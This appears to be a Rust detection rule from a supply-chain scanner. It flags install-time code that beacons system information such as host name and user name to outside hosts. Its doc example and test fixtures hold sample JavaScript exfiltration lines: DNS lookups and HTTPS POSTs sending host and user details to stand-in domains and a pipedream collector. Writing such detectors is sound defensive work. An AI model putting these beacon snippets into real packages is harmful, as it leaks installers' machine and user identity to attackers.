use std::collections::HashSet;

use palisade_diagnostics::{Confidence, Finding, Severity};

use super::{flow_destination, is_local, source_text};
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds code that sends system information — host name, user name,
    /// network interfaces, DNS servers, command output — over the network when
    /// it runs at install, or at any time to a collection endpoint or raw IP.
    /// Install-time files that collect system information and call a literal
    /// outside host are reported even when the value could not be followed.
    ///
    /// ## Why is this bad?
    /// This is the dependency-confusion beacon: a package published under an
    /// internal name reports which machines installed it. The same shape
    /// precedes targeted intrusions.
    ///
    /// ## Example
    /// ```js
    /// // run by "preinstall": "node index.js"
    /// dns.lookup(`${os.hostname()}.${os.userInfo().username}.x.invalid`, () => {});
    /// ```
    ///
    /// ## References
    /// - Alex Birsan, "Dependency Confusion" (2021).
    InstallTimeRecon {
        id: "exfil/install-time-recon",
        severity: Critical,
        status: Stable,
        summary: "System information is sent out at install time, or to a collection endpoint",
    }
}

impl Rule for InstallTimeRecon {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let mut reported_files = HashSet::new();
        for flow in &ctx.facts.flows {
            if flow.source != "system-info" || !matches!(flow.sink.as_str(), "network" | "dns") {
                continue;
            }
            let dest = flow_destination(flow);
            if dest.as_ref().is_some_and(is_local) {
                continue;
            }
            let collector = dest.as_ref().is_some_and(|d| d.collector.is_some());
            let severity = match (flow.at.install_time, collector, dest.is_some()) {
                (true, _, true) | (false, true, _) => Severity::Critical,
                // At install, host and user information leaving for any
                // host is the dependency-confusion beacon, wherever it goes.
                (true, false, false) => Severity::Critical,
                _ => continue,
            };
            reported_files.insert(flow.at.location.path.clone());
            let to = dest.as_ref().map_or_else(
                || "a computed destination".to_owned(),
                |d| format!("`{}`", d.host),
            );
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        severity,
                        format!(
                            "sends {} to {to} via `{}`",
                            source_text(&flow.source),
                            flow.sink_api
                        ),
                    ),
                    &flow.at.location,
                )
                .at_install_time(flow.at.install_time)
                .with_capability("exfiltration"),
            );
        }
        // The combination without a followed value: an install-time file that
        // reads system information and calls a literal outside host.
        for file in ctx.code_files.iter().filter(|f| f.install_time) {
            if reported_files.contains(&file.path) {
                continue;
            }
            let reads_info = ctx
                .facts
                .other
                .iter()
                .any(|o| o.kind == "system-info" && o.at.location.path == file.path);
            if !reads_info {
                continue;
            }
            let literal_call = ctx.facts.network.iter().find(|n| {
                n.api.is_some()
                    && n.at.location.path == file.path
                    && n.destination
                        .as_deref()
                        .and_then(crate::checkers::js::parse_destination)
                        .is_some_and(|d| !is_local(&d) && !ctx.is_vendor_host(&d.host))
            });
            let any_call = ctx.facts.network.iter().find(|n| {
                n.at.location.path == file.path
                    && n.api.as_deref().is_some_and(|a| a != "shell")
                    && !n
                        .destination
                        .as_deref()
                        .and_then(crate::checkers::js::parse_destination)
                        .is_some_and(|d| is_local(&d))
            });
            let names_collector = ctx.facts.network.iter().any(|n| {
                n.at.location.path == file.path
                    && n.collector.is_some()
                    && n.host_kind.is_some_and(|k| {
                        !matches!(
                            k,
                            palisade_diagnostics::HostKind::Loopback
                                | palisade_diagnostics::HostKind::PrivateIp
                        )
                    })
            });
            let (call, severity) = match (literal_call, any_call) {
                (Some(c), _) => (c, Severity::Critical),
                (None, Some(c)) if names_collector => (c, Severity::Critical),
                (None, Some(c)) => (c, Severity::High),
                (None, None) => continue,
            };
            {
                out.push(
                    ctx.at(
                        Finding::new(
                            Self::META.id,
                            severity,
                            format!(
                                "install-time code collects system information and calls `{}`",
                                call.host.as_deref().unwrap_or("an outside host")
                            ),
                        )
                        .with_confidence(Confidence::Medium),
                        &call.at.location,
                    )
                    .at_install_time(true)
                    .with_capability("exfiltration"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&InstallTimeRecon::META).test(
            &[
                Case::InstallJs("const os = require('os'), dns = require('dns');\ndns.lookup(`${os.hostname()}.x.invalid`, () => {});"),
                Case::InstallJs(
                    "const os = require('os');\nconst https = require('https');\nconst info = { h: os.hostname(), u: os.userInfo().username, d: __dirname };\nconst req = https.request({ hostname: 'beacon.invalid', method: 'POST' });\nreq.write(JSON.stringify(info)); req.end();",
                ),
                Case::Js("const os = require('os');\nfetch('https://abc.m.pipedream.net', { method: 'POST', body: os.hostname() });"),
            ],
            &[
                Case::Js("const os = require('os');\nfetch('https://api.service.invalid/v1', { body: JSON.stringify({ host: os.hostname() }) });"),
                Case::InstallJs("const os = require('os');\nconsole.log('installing on', os.platform());"),
                Case::InstallJs("const os = require('os');\nrequire('http').get('http://127.0.0.1:9/' + os.hostname());"),
            ],
        );
    }
}
